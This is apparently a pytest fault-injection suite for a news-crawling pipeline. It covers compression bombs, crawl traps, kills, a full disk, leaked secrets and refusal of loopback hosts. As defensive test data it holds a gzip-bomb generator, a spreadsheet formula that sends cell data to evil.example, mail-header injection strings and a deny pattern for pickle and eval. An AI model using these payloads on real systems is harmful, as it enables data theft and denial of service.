"""Fault injection: hostile pages, kills, a full disk, concurrent writers and readers, secrets and files."""

from __future__ import annotations

import base64
import functools
import json
import os
import re
import resource
import signal
import sqlite3
import stat
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from aipulse.demo.server import DemoSites
from pipeline.config import ConfigError, load_config
from tests.conftest import FIXTURES, export_articles, local_source_config, run_cli, write_config
from tests.siteserver import Route, SiteServer, rss

ROOT = Path(__file__).parent.parent
FEED_DATE = "Mon, 03 Aug 2026 08:00:00 GMT"


@functools.cache
def gzip_bomb(expanded_mb: int = 1024) -> bytes:
    """About 1 MB of gzip that expands to `expanded_mb` MB of HTML."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(b"<html><body><p>")]
    block = b"a" * (1 << 20)
    parts += [packer.compress(block) for _ in range(expanded_mb)]
    return b"".join(parts) + packer.flush()


def crawl_outcomes(config: Path) -> dict[str, str]:
    code, out, err = run_cli("--config", str(config), "crawl-log", "--json")
    assert code == 0, err
    return {row["url"]: row["outcome"] for row in json.loads(out)}


def test_a_compression_bomb_is_cut_off_at_the_size_limit_and_the_feed_goes_on(tmp_path: Path, site: SiteServer) -> None:
    bomb = gzip_bomb()
    assert len(bomb) < 2_000_000
    good = (FIXTURES / "pages" / "ghost-blog.html").read_bytes()
    site.routes.update({
        "/bomb": Route(bomb, headers={"Content-Encoding": "gzip"}),
        "/good": Route(good),
        # Windows-1252 bytes that call themselves UTF-8, in the header and in the page
        "/latin": Route((FIXTURES / "pages" / "cp1252-european.html").read_bytes().replace(b"windows-1252", b"utf-8")),
    })
    site.routes["/feed.xml"] = Route(rss(site.base, [(p, p, FEED_DATE) for p in ("/bomb", "/good", "/latin")]))
    config = local_source_config(tmp_path, "bombed", feeds=[f"{site.base}/feed.xml"])
    started = time.monotonic()
    code, _, err = run_cli("--config", str(config), "ingest")
    assert code == 0, err
    assert time.monotonic() - started < 60
    outcome = crawl_outcomes(config)
    assert outcome[site.base + "/bomb"] == "too_large"
    assert outcome[site.base + "/good"] == "new"
    stored = {a["url"]: a for a in export_articles(config)}
    assert sorted(stored) == [site.base + "/good", site.base + "/latin"]
    assert "Claude’s developers" in stored[site.base + "/latin"]["text"]


def calendar_page(path: str) -> Route:
    """An endless calendar: every day links the next and previous day and itself under a fresh session id."""
    day = int(path.rsplit("/", 1)[-1].split("?")[0])
    links = "".join(f'<a href="/calendar/{d}">day {d}</a> ' for d in (day - 1, day + 1, day + 7))
    links += f'<a href="/calendar/{day}?sessionid={time.monotonic_ns()}">again</a>'
    return Route(f"<html><body><h1>Events on day {day}</h1><p>{links}</p></body></html>".encode())


def test_crawl_traps_stay_within_the_page_budget_and_the_articles_come_first(tmp_path: Path, site: SiteServer) -> None:
    good = (FIXTURES / "pages" / "ghost-blog.html").read_bytes()
    articles = [f"/news/story-{i}" for i in range(3)]
    for i, path in enumerate(articles):
        site.routes[path] = Route(good.replace(b"<h1", f"<p>Story number {i}.</p><h1".encode(), 1))
    site.generated["/calendar/"] = calendar_page
    links = "".join(f'<a href="{p}">story</a> ' for p in ["/calendar/1", *articles])
    site.routes["/"] = Route(f"<html><body><p>{links}</p></body></html>".encode())
    config = local_source_config(tmp_path, "trapped", start_urls=[site.base + "/"], crawl="""
        [crawl]
        download_delay_s = 0.0
        autothrottle = false
        max_depth = 1000
        max_pages_per_source = 25
        [stance]
        enabled = false
        [index]
        enabled = false
    """.replace("\n        ", "\n"))
    code, _, err = run_cli("--config", str(config), "ingest")
    assert code == 0, err
    calendar = [p for p in site.paths_requested() if p.startswith("/calendar/")]
    assert 0 < len(calendar) <= 25
    assert not any("sessionid" in p for p in calendar)  # a session id does not make a page new
    stored = {a["url"] for a in export_articles(config)}
    assert {site.base + p for p in articles} <= stored


def test_csv_cells_that_start_like_a_formula_are_exported_as_text(demo_db: Path) -> None:
    """Text from the web that starts like a spreadsheet formula ("- " list items here; "=HYPERLINK(…)" from a hostile
    page) gets a leading apostrophe in CSV, so a spreadsheet shows it rather than evaluates it; numbers and JSON stay
    as stored."""
    import csv
    import io

    from aipulse.cli_options import spreadsheet_safe

    code, out, err = run_cli("--config", str(demo_db), "export", "--what", "mentions", "--format", "csv")
    assert code == 0, err
    table = list(csv.DictReader(io.StringIO(out)))
    code, out, err = run_cli("--config", str(demo_db), "export", "--what", "mentions")
    assert code == 0, err
    stored = [json.loads(line) for line in out.splitlines()]
    assert len(table) == len(stored) and sum(row["sentence"].startswith("- ") for row in stored) > 20
    for cells, row in zip(table, stored, strict=True):
        assert cells["sentence"] == ("'" if row["sentence"].startswith(("-", "=", "+", "@")) else "") + row["sentence"]
        assert float(cells["score"]) == row["score"]  # "-0.86" is a number, left alone
    assert spreadsheet_safe('=HYPERLINK("https://evil.example/?"&A1)') == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert [spreadsheet_safe(v) for v in ("+1", "@SUM(A1)", "\tx", "Meta", -0.5, None)] == [
        "'+1", "'@SUM(A1)", "'\tx", "Meta", -0.5, None]


def test_addresses_that_could_inject_mail_headers_are_refused(tmp_path: Path) -> None:
    for line in ['to = ["analyst@example.org\\r\\nBcc: everyone@example.org"]',
                 'to = ["analyst@example.org, everyone@example.org"]',
                 'from = "aipulse@example.org\\nX-Spam: yes"']:
        config = write_config(tmp_path, f"[email]\n{line}\n")
        with pytest.raises(ConfigError, match="email.(to|from)"):
            load_config(config)
        code, out, err = run_cli("--config", str(config), "status")
        assert code != 0 and len(err.strip().splitlines()) == 1 and "email." in err


def test_nothing_loads_pickle_or_other_code_executing_formats() -> None:
    pattern = re.compile(r"\bimport (c?pickle|dill|joblib|marshal|shelve)\b|\bfrom (c?pickle|dill|joblib|shelve) import"
                         r"|torch\.load\(|allow_pickle\s*=\s*True|yaml\.load\(|(?<![.\w])(eval|exec)\("
                         r"|AutoModel\.from_pretrained\((?!.*use_safetensors=True)")  # weights from safetensors only
    offenders = [f"{path.relative_to(ROOT)}:{number}"
                 for folder in ("aipulse", "pipeline", "index", "crawlers", "scripts")
                 for path in (ROOT / folder).rglob("*.py")
                 for number, line in enumerate(path.read_text().splitlines(), 1) if pattern.search(line)]
    offenders += [name for name in ("scheduler.py",) if pattern.search((ROOT / name).read_text())]
    assert offenders == []
    from aipulse.lifecycle import Lifecycle
    from scheduler import build_scheduler

    scheduler = build_scheduler(load_config(None), Lifecycle())
    assert {type(store).__name__ for store in scheduler._jobstores.values()} <= {"MemoryJobStore"}
    artefacts = [p for p in (ROOT / "index" / "models").rglob("*") if p.is_file()]
    assert artefacts and all(p.suffix in (".safetensors", ".json") for p in artefacts)


def test_files_are_readable_by_their_owner_only(tmp_path: Path, site: SiteServer) -> None:
    site.routes["/good"] = Route((FIXTURES / "pages" / "ghost-blog.html").read_bytes())
    site.routes["/feed.xml"] = Route(rss(site.base, [("/good", "good", FEED_DATE)]))
    config = local_source_config(tmp_path, "private", feeds=[f"{site.base}/feed.xml"])
    data = tmp_path / "data"
    config.write_text(f'[storage]\ndata_dir = "{data}"\n' + config.read_text())
    previous = os.umask(0o022)
    try:
        result = subprocess.run([sys.executable, "-m", "aipulse", "--config", str(config), "ingest"], cwd=ROOT,
                                capture_output=True, text=True, timeout=120)
    finally:
        os.umask(previous)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    created = [p for p in data.rglob("*") if p.is_file()]
    assert {p.name for p in created} >= {"aipulse.db", "ingest.lock"}
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in created} == {p.name: "0o600" for p in created}


def cli_process(config: Path, *args: str, **kwargs: object) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "aipulse", "--config", str(config), *args], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kwargs)  # type: ignore[call-overload]


def crawl_children(db: Path) -> list[int]:
    """Crawler processes still working on this database."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if "crawlers.run" in command and str(db) in command:
            found.append(int(entry.name))
    return found


def database_state(db: Path) -> dict[str, object]:
    connection = sqlite3.connect(db)
    try:
        one = lambda sql: connection.execute(sql).fetchone()[0]  # noqa: E731
        return {
            "integrity": one("PRAGMA integrity_check"),
            "urls": sorted(row[0] for row in connection.execute("SELECT url FROM articles")),
            "articles": one("SELECT COUNT(*) FROM articles"),
            "mentions": one("SELECT COUNT(*) FROM mentions"),
            "mention_keys": one("SELECT COUNT(DISTINCT article_id || '/' || sentence_index || '/' || entity) FROM mentions"),
            "passages": one("SELECT COUNT(*) FROM passages"),
            "unscored": one("SELECT COUNT(*) FROM articles WHERE stance_version IS NULL"),
        }
    finally:
        connection.close()


def status(config: Path) -> dict[str, object]:
    code, out, err = run_cli("--config", str(config), "status", "--json")
    assert code == 0, err
    return json.loads(out)


def test_kill_9_at_any_moment_of_an_ingest_loses_nothing_and_doubles_nothing(
        tmp_path: Path, demo_sites: DemoSites, demo_db: Path) -> None:
    reference = database_state(demo_db.parent / "aipulse.db")
    config = write_config(tmp_path, demo_sites.config_toml())
    db = tmp_path / "aipulse.db"
    killed_in = []
    for delay in (1.5, 4.0, 7.0, 10.0, 14.0):  # in the crawl, stance scoring and embedding of a ~20 s ingest
        process = cli_process(config, "ingest")
        time.sleep(delay)
        if process.poll() is not None:
            break
        process.send_signal(signal.SIGKILL)
        process.wait()
        killed_in.append(delay)
        deadline = time.monotonic() + 5
        while crawl_children(db) and time.monotonic() < deadline:  # the crawler dies with its ingest
            time.sleep(0.1)
        assert crawl_children(db) == []
    assert len(killed_in) >= 2
    code, out, err = run_cli("--config", str(config), "ingest")
    assert code == 0, out + err
    after = database_state(db)
    assert after["integrity"] == "ok"
    assert after["urls"] == reference["urls"]  # none lost, none twice
    assert after["mentions"] == after["mention_keys"] == reference["mentions"]
    assert after["passages"] == reference["passages"] and after["unscored"] == 0
    report = status(config)
    assert report["index_in_sync"] is True and report["vectors"] == reference["passages"]
    assert report["last_runs"][0]["ok"] is True
    errors = [row[0] or "" for row in sqlite3.connect(db).execute("SELECT error FROM job_runs ORDER BY id")]
    interrupted = [error for error in errors if error.startswith("interrupted")]
    assert len(interrupted) >= len(killed_in) - 1, errors  # a kill before the run was recorded leaves no row
    assert errors[-1] == "" and set(errors) <= {"", interrupted[0]}, errors


def test_search_and_status_while_ingests_write_and_a_second_ingest_waits(
        tmp_path: Path, demo_sites: DemoSites, demo_db: Path) -> None:
    reference = database_state(demo_db.parent / "aipulse.db")
    config = write_config(tmp_path, demo_sites.config_toml())
    first = cli_process(config, "ingest")
    lock = tmp_path / "ingest.lock"
    deadline = time.monotonic() + 60
    db = tmp_path / "aipulse.db"  # status reads an existing database only: it starts once the first made it
    while not (lock.exists() and lock.read_text() == str(first.pid) and db.exists()) and time.monotonic() < deadline:
        time.sleep(0.05)  # the first holds the lock before the second starts
    second = cli_process(config, "ingest")
    reads = []
    while first.poll() is None or second.poll() is None:
        code, out, err = run_cli("--config", str(config), "status", "--json")
        reads.append((code, err))
        code, out, err = run_cli("--config", str(config), "search", "open weights catch up", "-k", "3")
        reads.append((0 if code in (0, 1) else code, err))  # before the first vectors, search says so and exits 1
        time.sleep(0.2)
    outputs = [process.communicate() for process in (first, second)]
    assert first.returncode == 0 and second.returncode == 0, outputs
    assert f"waiting for the ingest already running (pid {first.pid})" in outputs[1][1]
    assert len(reads) >= 10
    assert all(code == 0 for code, _ in reads), reads
    assert not any("locked" in err for _, err in reads)
    after = database_state(tmp_path / "aipulse.db")
    assert after["urls"] == reference["urls"] and after["mentions"] == reference["mentions"]
    assert after["passages"] == reference["passages"]
    assert status(config)["index_in_sync"] is True


def ignore_file_size_signal_and_limit(limit: int):  # type: ignore[no-untyped-def]
    def apply() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # writes past the limit fail with EFBIG, as on a full disk
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def test_a_full_disk_is_one_clear_error_and_keeps_what_was_stored(tmp_path: Path, site: SiteServer) -> None:
    body = (FIXTURES / "pages" / "ghost-blog.html").read_bytes()
    paths = [f"/story-{i}" for i in range(40)]
    for i, path in enumerate(paths):  # forty distinct articles, none a copy of another
        site.routes[path] = Route(body.replace(b"<h1", f"<p>{' '.join(f'w{i}x{j}' for j in range(400))}</p><h1".encode(), 1))
    site.routes["/feed.xml"] = Route(rss(site.base, [(paths[0], "first", FEED_DATE)]))
    config = local_source_config(tmp_path, "disk", feeds=[f"{site.base}/feed.xml"])
    assert run_cli("--config", str(config), "ingest")[0] == 0
    db = load_config(config).db_path
    before = database_state(db)
    site.routes["/feed.xml"] = Route(rss(site.base, [(path, path, FEED_DATE) for path in paths]))
    limit = db.stat().st_size + 64 * 1024  # room for a few pages, not for forty
    process = cli_process(config, "ingest", preexec_fn=ignore_file_size_signal_and_limit(limit))
    out, err = process.communicate(timeout=120)
    assert process.returncode == 1, out + err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and "disk full" in lines[0], err
    after = database_state(db)
    assert after["integrity"] == "ok"
    assert set(before["urls"]) <= set(after["urls"]) and len(after["urls"]) < len(paths)  # type: ignore[arg-type]
    assert run_cli("--config", str(config), "ingest")[0] == 0  # space again: the rest arrives
    final = database_state(db)
    assert final["integrity"] == "ok" and len(final["urls"]) == len(paths)  # type: ignore[arg-type]


def test_a_missing_model_is_one_line_and_the_crawl_is_kept(tmp_path: Path, site: SiteServer) -> None:
    site.routes["/good"] = Route((FIXTURES / "pages" / "ghost-blog.html").read_bytes())
    site.routes["/feed.xml"] = Route(rss(site.base, [("/good", "good", FEED_DATE)]))
    config = local_source_config(tmp_path, "nomodel", feeds=[f"{site.base}/feed.xml"], crawl="""
[crawl]
download_delay_s = 0.0
autothrottle = false
[model]
name = "/nonexistent/minilm-folder"
""")
    code, out, err = run_cli("--config", str(config), "ingest")
    assert code == 3, out + err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 2 and all(line.startswith("error: ") and "/nonexistent/minilm-folder" in line
                                   for line in lines), err
    assert [a["url"] for a in export_articles(config)] == [site.base + "/good"]


def test_no_secret_reaches_output_status_logs_or_files(demo_db: Path, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.smtpserver import LOGIN, smtp_server, smtp_settings
    from tests.test_digest import WEEK, digest_copy

    secret = LOGIN[1]
    forms = [secret, base64.b64encode(secret.encode()).decode(), base64.b64encode(f"\0{LOGIN[0]}\0{secret}".encode()).decode()]
    seen = []
    with smtp_server(tmp_path, "starttls", login=LOGIN) as server:
        config = digest_copy(demo_db, tmp_path, smtp_settings(server, login=True))
        monkeypatch.setenv("AIPULSE_SMTP_PASSWORD", secret + "-wrong")
        seen.append(run_cli("--config", str(config), "digest", "--week", WEEK, "--send"))
        monkeypatch.setenv("AIPULSE_SMTP_PASSWORD", secret)
        seen.append(run_cli("--config", str(config), "digest", "--week", WEEK, "--send", "--out", str(tmp_path / "out")))
        assert seen[-1][0] == 0 and len(server.inbox.messages) == 1
    for args in (["status", "--json"], ["status"], ["crawl-log", "--json"], ["export", "--format", "jsonl"]):
        seen.append(run_cli("--config", str(config), *args))
    assert "535" in seen[0][2] or "refused" in seen[0][2].lower()
    text = "\n".join(out + err for _, out, err in seen)
    assert not any(form in text for form in forms)
    stored = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and "smtp" not in p.name)
    assert not any(form.encode() in stored for form in forms)


def test_a_host_name_that_resolves_to_a_private_address_is_refused_before_any_request(
        tmp_path: Path, site: SiteServer) -> None:
    site.routes["/feed.xml"] = Route(rss(site.base, []))
    config = write_config(tmp_path, f"""
[[sources]]
name = "named"
feeds = ["http://localhost:{site.server_port}/feed.xml"]
""")
    code, _, err = run_cli("--config", str(config), "ingest")
    assert code == 3
    assert re.search(r"source 'named' refused: .* localhost \((127\.0\.0\.1|::1)\) is a loopback address", err), err
    assert site.requests == []


def test_the_crawl_process_does_not_grow_with_the_pages_it_processes(tmp_path: Path) -> None:
    """A bounded version of bench/memory.py (10,000 pages there): resident memory of the crawl process after
    1,500 pages within 20% of that after 300."""
    sys.path.insert(0, str(ROOT / "bench"))
    from ingest import long_articles

    from aipulse.ingest import run_ingest
    from aipulse.lifecycle import Lifecycle

    samples: dict[int, float] = {}
    seen = [0]
    lifecycle = Lifecycle()

    def on_event(event: dict[str, object]) -> None:
        if event.get("event") == "page":
            seen[0] += 1
            child = next(iter(lifecycle.children), None)
            if seen[0] in (300, 1500) and child is not None:
                status = Path(f"/proc/{child.pid}/status").read_text()
                samples[seen[0]] = int(next(line for line in status.splitlines() if line.startswith("VmRSS:")).split()[1])

    with DemoSites(port=0, articles=long_articles(1500, words=400)) as sites:
        config = write_config(tmp_path, sites.config_toml(stance=False, index=False).replace(
            "[crawl]\n", "[crawl]\nmax_feed_items = 100000\nmax_pages_per_source = 100000\n"))
        run_ingest(load_config(config), lifecycle, on_event=on_event)
    assert seen[0] >= 1500 and set(samples) == {300, 1500}
    assert samples[1500] <= 1.2 * samples[300], samples
